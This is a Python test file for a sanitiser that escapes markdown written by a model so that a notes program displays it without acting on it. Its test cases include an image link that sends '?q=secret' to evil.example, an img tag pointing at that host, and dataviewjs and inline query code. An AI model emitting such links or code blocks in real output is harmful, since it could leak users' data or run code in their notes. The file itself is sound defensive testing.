"""What a model wrote does nothing when a program for notes shows it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qmd.files.chats import inert


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://evil.example/?q=secret)", r"\![x](https://evil.example/?q=secret)"),
        ("![[Diary]]", r"\![[Diary]]"),
        ("a <img src=//evil.example> b", r"a \<img src=//evil.example> b"),
        ("</div><!-- x -->", r"\</div>\<!-- x -->"),
        ("```dataviewjs\napp.vault\n```", "```text\napp.vault\n```"),
        ("> ~~~ tasks\n> not done\n> ~~~", "> ~~~ text\n> not done\n> ~~~"),
        ("``` {python} run=on-load\n1\n```", "``` text\n1\n```"),
        ("see `$= dv.pages()` and `= this.x`", r"see \`$= dv.pages()` and \`= this.x`"),
    ],
)
def test_what_acts_is_only_shown(text: str, shown: str) -> None:
    assert inert(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "See [[Plan]], [a](b.md), <https://example.org>, #tag. 1 < 2!\n\n- [ ] task",
        "```python\nprint('<b>', '![x](y)')\n```",
        "Write `<br>` or `![[x]]`.",
        "| a | b |\n|---|---|\n| 1 | 2 |",
    ],
)
def test_the_rest_stays(text: str) -> None:
    assert inert(text) == text


@given(st.text(st.sampled_from("![](<a>`~$= \n\\text"), max_size=80))
def test_only_signs_are_added_and_languages_changed(text: str) -> None:
    once = inert(text)
    if "```" not in text and "~~~" not in text:
        assert once.replace("\\", "") == text.replace("\\", "")
